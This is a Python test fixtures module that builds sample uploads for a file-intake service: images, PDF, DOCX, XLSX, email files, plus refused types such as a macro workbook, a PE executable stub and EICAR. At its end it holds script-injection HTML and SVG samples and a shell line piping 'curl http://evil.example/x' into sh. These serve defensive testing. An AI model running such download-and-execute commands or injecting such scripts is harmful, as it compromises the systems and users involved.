"""Real sample documents built in code: every accepted type and every kind we refuse."""

import io
import struct
import zipfile

from PIL import Image

from testing.clamd import EICAR as EICAR  # re-exported: the signature the test clamd knows

_CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_DOC_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
_WML = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def image(fmt: str = "PNG", size: tuple[int, int] = (64, 48), color: str = "red") -> bytes:
    out = io.BytesIO()
    mode = "RGBA" if fmt in ("PNG", "WEBP") else "RGB"
    Image.new(mode, size, color).save(out, fmt)
    return out.getvalue()


def jpeg(size: tuple[int, int] = (800, 600)) -> bytes:
    out = io.BytesIO()
    img = Image.linear_gradient("L").resize(size).convert("RGB")
    img.save(out, "JPEG", quality=85)
    return out.getvalue()


def pdf(pages: int = 1) -> bytes:
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument.new()
    for _ in range(pages):
        doc.new_page(595, 842)  # A4 in points
    out = io.BytesIO()
    doc.save(out)
    doc.close()
    return out.getvalue()


def docx(text: str = "Renewal notice", extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            f'<?xml version="1.0"?><Types xmlns="{_CT_NS}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{_WML}"/></Types>',
        )
        z.writestr(
            "_rels/.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{_REL_NS}">'
            f'<Relationship Id="rId1" Type="{_DOC_REL}" Target="word/document.xml"/></Relationships>',
        )
        z.writestr(
            "word/document.xml",
            '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            f'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
            "</w:body></w:document>",
        )
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return out.getvalue()


def xlsx() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.append(["policy_number", "premium"])
    wb.active.append(["POL-1", 25000])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def xlsm() -> bytes:
    """A macro-enabled workbook: macroEnabled content type plus xl/vbaProject.bin."""
    source = zipfile.ZipFile(io.BytesIO(xlsx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            z.writestr(item, data)
        z.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("notes.txt", "hello")
    return out.getvalue()


def eml() -> bytes:
    return (
        b"From: customer@example.com\r\nTo: agent@example.com\r\nSubject: Renewal\r\n"
        b"Date: Mon, 15 Jan 2024 10:30:00 +0000\r\nMessage-ID: <abc@example.com>\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease renew.\r\n"
    )


def msg() -> bytes:
    """A minimal Outlook .msg: a compound file whose root storage has Outlook's CLSID."""
    end, free, fat = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", free) * 108
    fat_sector = struct.pack("<II", fat, end) + struct.pack("<I", free) * 126
    name = "Root Entry".encode("utf-16-le") + b"\x00\x00"
    outlook_clsid = bytes.fromhex("0b0d020000000000c000000000000046")
    root = name.ljust(64, b"\x00") + struct.pack("<HBB", len(name), 5, 1)
    root += struct.pack("<III", free, free, free) + outlook_clsid
    root += b"\x00" * 4 + b"\x00" * 16 + struct.pack("<I", end) + struct.pack("<Q", 0)
    root = root[:76] + struct.pack("<I", 1) + root[80:]  # child: the properties stream
    props_name = "__properties_version1.0".encode("utf-16-le") + b"\x00\x00"
    props = props_name.ljust(64, b"\x00") + struct.pack("<HBB", len(props_name), 2, 1)
    props += struct.pack("<III", free, free, free) + b"\x00" * 16
    props += b"\x00" * 4 + b"\x00" * 16 + struct.pack("<I", end) + struct.pack("<Q", 0)
    empty = b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", free, free, free)
    empty += b"\x00" * (128 - len(empty))
    directory = root + props + empty * 2
    return header + fat_sector + directory


def exe() -> bytes:
    """The start of a Windows PE executable (DOS stub + PE header)."""
    dos = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 60)
    struct.pack_into("<I", dos, 0x3C, 64)
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    return bytes(dos) + pe + b"\x00" * 400


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
CSV = b"policy_number,premium\nPOL-1,25000\nPOL-2,18000\n"
TXT = b"Customer asked to call back on Monday about the renewal.\n"
